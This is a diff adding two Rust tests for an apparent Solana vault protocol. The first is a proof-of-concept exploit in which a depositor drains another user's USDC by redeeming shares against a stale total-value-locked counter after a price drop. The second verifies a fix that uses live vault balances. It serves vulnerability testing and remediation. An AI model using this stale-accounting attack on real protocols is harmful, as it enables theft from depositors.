@@ -0,0 +1,58 @@
+#[tokio::test]
+async fn test_stale_tvl_counter_exploit() {
+    println!("\n=== EXPLOIT: Shares Redeemed At A Stale TVL Counter ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let protocol = create_protocol(&[SOL, USDC]).await;
+    set_price(SOL, 200_000_000).await;
+
+    println!("1. Mallory deposits 100 SOL at $200, Alice $20,000 USDC");
+    deposit(&protocol, &mallory, SOL, 100_000_000_000).await.unwrap();
+    deposit(&protocol, &alice, USDC, 20_000_000_000).await.unwrap();
+    assert_eq!(get_protocol(&protocol).await.total_value_locked, 40_000_000_000);
+
+    println!("\n2. SOL falls to $100; the counter does not move");
+    set_price(SOL, 100_000_000).await;
+    assert_eq!(get_protocol(&protocol).await.total_value_locked, 40_000_000_000);
+
+    println!("\n3. Mallory redeems all her shares for USDC");
+    let shares = get_position(&mallory).await.shares;
+    // Vulnerable: half of a $40,000 counter instead of half of $30,000
+    withdraw(&protocol, &mallory, USDC, shares).await.unwrap();
+    assert_eq!(get_token_balance(&mallory, USDC).await, 20_000_000_000);
+    assert_eq!(get_vault_balance(&protocol, USDC).await, 0);
+
+    println!("\n   EXPLOIT SUCCESSFUL!");
+    println!("   ✗ Mallory took all $20,000 USDC for SOL now worth $10,000");
+    println!("   ✗ Alice is left with 100 SOL worth $10,000");
+}
+
+#[tokio::test]
+async fn test_tvl_from_live_balances() {
+    println!("\n=== SECURITY: TVL Computed From Vault Balances ===\n");
+
+    let alice = Keypair::new();
+    let mallory = Keypair::new();
+    let protocol = create_protocol(&[SOL, USDC]).await;
+    set_price(SOL, 200_000_000).await;
+
+    deposit(&protocol, &mallory, SOL, 100_000_000_000).await.unwrap();
+    deposit(&protocol, &alice, USDC, 20_000_000_000).await.unwrap();
+    set_price(SOL, 100_000_000).await;
+
+    println!("1. Withdrawal that omits the SOL vault");
+    let shares = get_position(&mallory).await.shares;
+    let result = withdraw_with_vaults(&protocol, &mallory, USDC, shares, &[USDC]).await;
+    assert!(result.is_err());
+    println!("   ✓ Error: MissingVaults");
+
+    println!("\n2. Mallory redeems all her shares for USDC");
+    withdraw(&protocol, &mallory, USDC, shares).await.unwrap();
+    assert_eq!(get_token_balance(&mallory, USDC).await, 15_000_000_000);
+    println!("   ✓ Paid $15,000: half of the real $30,000");
+
+    println!("\n3. Alice's remaining shares still hold their value");
+    assert_eq!(get_live_tvl(&protocol).await, 15_000_000_000);
+    println!("   ✓ $5,000 USDC + 100 SOL at $100 = $15,000");
+}